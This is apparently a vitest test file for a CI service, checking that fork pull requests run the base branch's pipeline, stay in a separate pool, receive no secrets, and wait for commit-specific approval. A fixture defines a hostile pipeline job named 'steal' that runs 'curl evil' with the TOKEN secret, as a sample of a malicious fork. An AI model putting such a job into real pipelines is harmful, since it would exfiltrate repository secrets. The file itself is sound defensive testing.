import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { APPROVAL_TIMEOUT_MS, QUEUE_TIMEOUT_MS, RUN_TIMEOUT_MS } from "../../shared/domain/limits.ts";
import type { ProjectBody } from "../../shared/protocol/projects.ts";
import type { RunItem } from "../../shared/store/items.ts";
import { approveRun } from "../../shared/usecases/approve-run.ts";
import { cancelRun } from "../../shared/usecases/cancel-run.ts";
import { planRun } from "../../shared/usecases/plan-run.ts";
import { reconcileRun } from "../../shared/usecases/reconcile-run.ts";
import { rerunRun } from "../../shared/usecases/rerun-run.ts";
import { startTriggered } from "../../shared/usecases/start-triggered.ts";
import { sweepRuns } from "../../shared/usecases/sweep-runs.ts";
import { driveToEnd, finalState } from "../support/drive.ts";
import { dyingAt } from "../support/faulty-deps.ts";
import { answerOf, claimAt, jobOf, runOf } from "../support/scenario.ts";
import { HOUR_MS, SECOND_MS } from "../support/times.ts";
import { addShop, forkPullOf, pullOf, runsOf, type Shop, shaOf } from "../support/trigger-world.ts";
import { sessionOf, startWorld, type World } from "../support/world.ts";

/** Pull requests from forks: whose definition, in which pool, and after whose word (SECURITY 19, 20, 22). */

let world: World;
beforeEach(async () => {
  world = await startWorld(["default", "forks", "gpu"]);
});
afterEach(() => world.stop());

const PIPELINE = `
on: pull_request
jobs:
  build: {run: make, pool: gpu}
  lint: {run: lint}
  test: {run: test, needs: build, secrets: [TOKEN]}
`;
const HOSTILE = "on: pull_request\njobs: {steal: {run: 'curl evil', pool: gpu, secrets: [TOKEN]}}\n";

async function forkShop(mode: ProjectBody["forks"]["mode"] = "approve"): Promise<Shop> {
  const shop = await addShop(world, { forks: { mode, pool: "forks" } });
  shop.repository.filesAt.set(shaOf("base"), new Map([[".baton/ci.yml", PIPELINE]]));
  shop.repository.filesAt.set(
    shaOf("head"),
    new Map([
      [".baton/ci.yml", HOSTILE],
      [".baton/more.yml", HOSTILE],
    ]),
  );
  return shop;
}

async function started(shop: Shop, trigger = forkPullOf(world, "head")): Promise<RunItem> {
  const [decision] = await startTriggered(world.deps, shop.project, trigger, "webhook");
  return runOf(world.deps, decision?.runId ?? JSON.stringify(decision));
}

const ref = (run: RunItem) => ({ tenant: "main", runId: run.runId });
const jobsOf = async (run: RunItem) => (await world.deps.store.getRunItems(run)).jobs;
const statesOf = async (run: RunItem) => (await finalState(world.deps, run.runId)).jobs;
const HELD = { build: "held", lint: "held", test: "waiting" };

describe("a fork's pull request", () => {
  test("SECURITY 20: runs the definition of the base ref, and never reads the fork's", async () => {
    const shop = await forkShop();
    const run = await started(shop);
    expect(Object.keys(await statesOf(run))).toEqual(["build", "lint", "test"]);
    expect(run).toMatchObject({
      source: { sha: shaOf("head") },
      trigger: { fork: true, base: { sha: shaOf("base") } },
    });
    expect(await runsOf(world, shop)).toHaveLength(1);
  });

  test("SECURITY 20: reads the base ref's definition also where a crash left the planning to another", async () => {
    const shop = await forkShop();
    shop.repository.filesAt.set(shaOf("base"), new Map([[".baton/ci.yml", "on: pull_request\njobs: {a: {rum: x}}\n"]]));
    const dead = dyingAt(world.deps, 2, "before").deps;
    await expect(
      startTriggered({ ...world.deps, ...dead }, shop.project, forkPullOf(world, "head"), "webhook"),
    ).rejects.toThrow();
    const [planning] = await runsOf(world, shop);
    const shas: string[] = [];
    const readDefinition = async ({ sha }: { sha: string }) => {
      shas.push(sha);
      return PIPELINE;
    };
    await planRun({ ...world.deps, readDefinition }, { tenant: "main", runId: planning?.runId ?? "" });
    expect(shas).toEqual([shaOf("base")]);
    const run = await runOf(world.deps, planning?.runId ?? "");
    expect([...new Set((await jobsOf(run)).map(({ pool }) => pool))]).toEqual(["forks"]);
    expect(await statesOf(run)).toEqual(HELD);
  });

  test("SECURITY 19: has every job in the project's pool for forks, whatever the definition says", async () => {
    const run = await started(await forkShop("run"));
    expect((await jobsOf(run)).map(({ pool }) => pool)).toEqual(["forks", "forks", "forks"]);
    expect(world.sent.offers.map(({ pool }) => pool)).toEqual(["forks", "forks"]);
    const trusted = { ...sessionOf("trusted", ["default", "gpu"]) };
    expect(await answerOf(claimAt(world.deps, { runId: run.runId, jobId: "build" }, { session: trusted }))).toBe(
      "forbidden",
    );
  });

  test("SECURITY 19: runs there also where the pool that it is kept from cannot be made of its branch", async () => {
    const shop = await forkShop("run");
    const pipeline = `on: pull_request\njobs: {build: {run: make, pool: "\${git.branch}"}}\n`;
    shop.repository.filesAt.set(shaOf("base"), new Map([[".baton/ci.yml", pipeline]]));
    const run = await started(shop, forkPullOf(world, "head", { branch: "feature/no-pool" }));
    expect(run.state).toBe("live");
    expect((await jobsOf(run)).map(({ pool }) => pool)).toEqual(["forks"]);
  });

  test("SECURITY 19: tells its runner to ask for no secret", async () => {
    const run = await started(await forkShop("run"));
    await world.deps.store.getRun(run);
    const { grant } = await claimAt(
      world.deps,
      { runId: run.runId, jobId: "lint" },
      { session: sessionOf("f", ["forks"]) },
    );
    expect(grant.secrets).toEqual([]);
    expect(grant).toMatchObject({ secretsWithheld: "fork", trigger: { event: "pull_request", number: 1 } });
  });

  test("SECURITY 19: starts nothing in a project that runs no forks", async () => {
    const shop = await forkShop("never");
    const decisions = await startTriggered(world.deps, shop.project, forkPullOf(world, "head"), "webhook");
    expect(decisions).toEqual([{ pipeline: "*", reason: "this project runs no pull requests of forks" }]);
    expect(await runsOf(world, shop)).toEqual([]);
  });

  test("SECURITY 19: fails to plan, and runs nowhere else, where its pool is not there", async () => {
    const shop = await addShop(world, { forks: { mode: "run", pool: "elsewhere" } });
    shop.repository.files.set(".baton/ci.yml", PIPELINE);
    expect(await started(shop)).toMatchObject({
      state: "plan_failed",
      reason: expect.stringMatching(/pool elsewhere/),
    });
  });

  test("SECURITY 22: waits whoever wrote it: no name of an author or a bot is looked at", async () => {
    const shop = await forkShop();
    for (const [nth, actor] of ["acme", "dependabot[bot]", "github-actions[bot]", "web-flow", ""].entries()) {
      const run = await started(shop, forkPullOf(world, "head", { number: nth + 10, actor }));
      expect(await statesOf(run)).toEqual(HELD);
    }
  });
});

test("a pull request of the repository's own branch runs its own definition at once", async () => {
  const shop = await forkShop();
  const run = await started(shop, pullOf(world, "head"));
  expect(await statesOf(run)).toEqual({ steal: "queued" });
  expect(run.approval).toBeUndefined();
});

describe("a run that waits for its approval", () => {
  test("offers nothing, has no ticks, and is left alone by sweep and reconcile", async () => {
    const run = await started(await forkShop());
    expect([world.sent.offers, world.sent.ticks]).toEqual([[], []]);
    expect(run.wakeAtMs).toBe(run.hardDeadlineMs);
    world.clock.nowMs += 24 * HOUR_MS;
    expect(await sweepRuns(world.deps)).toBe(0);
    await reconcileRun(world.deps, { ...ref(run), seq: 0 });
    expect([world.sent.offers, world.sent.ticks]).toEqual([[], []]);
    expect(await statesOf(run)).toEqual(HELD);
    expect(await runOf(world.deps, run.runId)).toMatchObject({ wakeAtMs: run.hardDeadlineMs, tickSeq: 1 });
    expect(
      await answerOf(claimAt(world.deps, { runId: run.runId, jobId: "lint" }, { session: sessionOf("f", ["forks"]) })),
    ).toBe("taken");
  });

  test("SECURITY 19: is approved by its exact commit, and by no other word", async () => {
    const run = await started(await forkShop());
    for (const sha of [shaOf("other"), shaOf("base"), shaOf("head").slice(0, 39), shaOf("head").toUpperCase(), ""])
      expect(await answerOf(approveRun(world.deps, run, sha, "token:ann"))).toBe("conflict");
    expect(await statesOf(run)).toEqual(HELD);
    await approveRun(world.deps, run, shaOf("head"), "token:ann");
    expect(await statesOf(run)).toEqual({ build: "queued", lint: "queued", test: "waiting" });
    expect(await runOf(world.deps, run.runId)).toMatchObject({
      approval: { sha: shaOf("head"), by: "token:ann", atMs: world.clock.nowMs },
      history: { "0.approve": { actor: "token:ann" } },
    });
    expect(await driveToEnd(world, run.runId)).toMatchObject({ state: "succeeded" });
  });

  test.each([
    ["its approval", async (run: RunItem) => void (await approveRun(world.deps, run, shaOf("head"), "token:ann"))],
    [
      "a reconcile, where the approval died after its first write",
      async (run: RunItem) => {
        const dead = { ...world.deps, ...dyingAt(world.deps, 1, "after").deps };
        await expect(approveRun(dead, run, shaOf("head"), "token:ann")).rejects.toThrow();
        await reconcileRun(world.deps, { ...ref(run), seq: (await runOf(world.deps, run.runId)).tickSeq });
      },
    ],
  ])(
    "case T1: a job that waited a day is given a queue deadline of its own by %s, and is lost after it",
    async (_, approve) => {
      const run = await started(await forkShop());
      world.clock.nowMs += 24 * HOUR_MS;
      await approve(run);
      const lint = (await jobsOf(run)).find(({ jobId }) => jobId === "lint");
      expect(lint).toMatchObject({ state: "queued", queueDeadlineMs: world.clock.nowMs + QUEUE_TIMEOUT_MS });
      world.sent.offers.length = 0;
      world.clock.nowMs += QUEUE_TIMEOUT_MS + SECOND_MS;
      await reconcileRun(world.deps, { ...ref(run), seq: (await runOf(world.deps, run.runId)).tickSeq });
      expect((await statesOf(run))["lint"]).toBe("lost");
    },
  );

  test("is approved once, by any number of people at once", async () => {
    const run = await started(await forkShop());
    await Promise.all(
      Array.from({ length: 8 }, (_, nth) => approveRun(world.deps, run, shaOf("head"), `token:${nth}`)),
    );
    const { approval, history } = await runOf(world.deps, run.runId);
    expect(history["0.approve"]?.actor).toBe(approval?.by);
    for (const jobId of ["build", "lint"])
      expect(Object.keys((await jobOf(world.deps, { runId: run.runId, jobId })).history)).toEqual(["0.admit"]);
  });

  test.each([1, 2, 3].flatMap((nth) => (["before", "after"] as const).map((moment) => ({ nth, moment }))))(
    "ends as approved where the approval died $moment write $nth",
    async ({ nth, moment }) => {
      const run = await started(await forkShop());
      const dying = dyingAt(world.deps, nth, moment);
      await expect(approveRun(dying.deps, run, shaOf("head"), "token:ann")).rejects.toThrow();
      // Nothing of it has landed: whoever approved asks again.
      if (nth === 1 && moment === "before") await approveRun(world.deps, run, shaOf("head"), "token:ann");
      expect(await driveToEnd(world, run.runId)).toMatchObject({ state: "succeeded" });
    },
  );

  test("is not parked again by a reconcile that had seen it before its approval", async () => {
    const run = await started(await forkShop());
    const { store } = world.deps;
    const late = {
      ...world.deps,
      store: {
        ...store,
        apply: async (...args: Parameters<typeof store.apply>) => {
          if (args[0].name === "park")
            await approveRun(dyingAt(world.deps, 1, "after").deps, run, shaOf("head"), "token:ann").catch(
              () => undefined,
            );
          return store.apply(...args);
        },
      } as typeof store,
    };
    await reconcileRun(late, { ...ref(run), seq: 0 });
    expect((await runOf(world.deps, run.runId)).wakeAtMs).toBe(world.clock.nowMs);
    world.clock.nowMs += 61 * SECOND_MS;
    expect(await sweepRuns(world.deps)).toBe(1);
    expect(await driveToEnd(world, run.runId)).toMatchObject({ state: "succeeded" });
  });

  test("invariant 5: ends where nobody approves it", async () => {
    const run = await started(await forkShop());
    world.clock.nowMs += APPROVAL_TIMEOUT_MS + RUN_TIMEOUT_MS + HOUR_MS;
    expect(await sweepRuns(world.deps)).toBe(1);
    const ended = await driveToEnd(world, run.runId);
    expect(ended).toMatchObject({ state: "timed_out", reason: "nobody approved its commit in time" });
    expect(await statesOf(run)).toEqual({
      build: "canceled",
      lint: "canceled",
      test: expect.stringMatching(/canceled|skipped/),
    });
  });

  test("is canceled like any other, and approved no more", async () => {
    const run = await started(await forkShop());
    await cancelRun(world.deps, run, { actor: "token:ann" });
    expect(await runOf(world.deps, run.runId)).toMatchObject({ state: "canceled" });
    expect(await answerOf(approveRun(world.deps, run, shaOf("head"), "token:ann"))).toBe("conflict");
    expect(await answerOf(approveRun(world.deps, { ...run, runId: "run_none" }, shaOf("head"), "x"))).toBe("not_found");
  });

  test("SECURITY 19: does not lend its approval: a new push to the pull request waits for its own", async () => {
    const shop = await forkShop();
    const first = await started(shop);
    await approveRun(world.deps, first, shaOf("head"), "token:ann");
    shop.repository.filesAt.set(shaOf("next"), new Map([[".baton/ci.yml", HOSTILE]]));
    const second = await started(shop, forkPullOf(world, "next", { action: "synchronize" }));
    expect(await statesOf(second)).toEqual(HELD);
    expect(await answerOf(approveRun(world.deps, second, shaOf("head"), "token:ann"))).toBe("conflict");
  });

  test("SECURITY 19: is not started by running it again; a rerun of what was approved needs no second word", async () => {
    const run = await started(await forkShop());
    await cancelRun(world.deps, run, { actor: "token:ann" });
    const again = (old: RunItem) =>
      rerunRun(world.deps, { ...ref(old), only: "all", watch: false }, { principal: "token:ann" });
    const second = (await again(run)).run;
    expect(await statesOf(second)).toEqual(HELD);
    expect(second).toMatchObject({ trigger: { fork: true }, pool: "forks", approval: { sha: shaOf("head") } });
    await approveRun(world.deps, second, shaOf("head"), "token:ann");
    await cancelRun(world.deps, second, { actor: "token:ann" });
    const third = (await again(second)).run;
    expect(await statesOf(third)).toMatchObject({ build: "queued", lint: "queued" });
    expect((await jobsOf(third)).map(({ pool }) => pool)).toEqual(["forks", "forks", "forks"]);
  });

  test("case T, SECURITY 19: that never had a plan keeps its pool, its approval and its base when it is run again", async () => {
    const shop = await forkShop();
    shop.repository.filesAt.set(shaOf("base"), new Map([[".baton/ci.yml", "on: pull_request\njobs: {a: {rum: x}}\n"]]));
    const failed = await started(shop);
    expect(failed.state).toBe("plan_failed");
    const asked: string[] = [];
    const readDefinition = async ({ sha }: { sha: string }) => {
      asked.push(sha);
      return PIPELINE;
    };
    const again = { ...ref(failed), only: "all" as const, watch: false };
    const { run } = await rerunRun(world.deps, again, { principal: "token:ann" });
    expect(run).toMatchObject({ pool: "forks", approval: { sha: shaOf("head") }, trigger: { fork: true } });
    await planRun({ ...world.deps, readDefinition }, ref(run));
    expect(asked).toEqual([shaOf("base")]);
    expect((await jobsOf(run)).map(({ pool }) => pool)).toEqual(["forks", "forks", "forks"]);
    expect(await statesOf(run)).toEqual(HELD);
    expect(world.sent.offers).toEqual([]);
  });
});
